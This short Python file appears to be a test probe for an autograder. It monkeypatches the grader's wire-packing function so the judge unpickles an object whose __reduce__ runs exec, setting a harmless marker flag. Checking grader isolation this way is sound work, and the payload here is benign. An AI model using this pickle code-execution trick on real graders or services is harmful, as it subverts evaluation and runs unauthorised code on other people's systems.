# Sends pickles: whoever loads one runs the sender's code.
# reaches: judge
# restriction: wire
import autograder.runtime.wire, pickle


class Mine:
    def __reduce__(self):
        return exec, ("import builtins; builtins.marked = True",)


autograder.runtime.wire.pack = lambda tree: pickle.dumps(Mine())
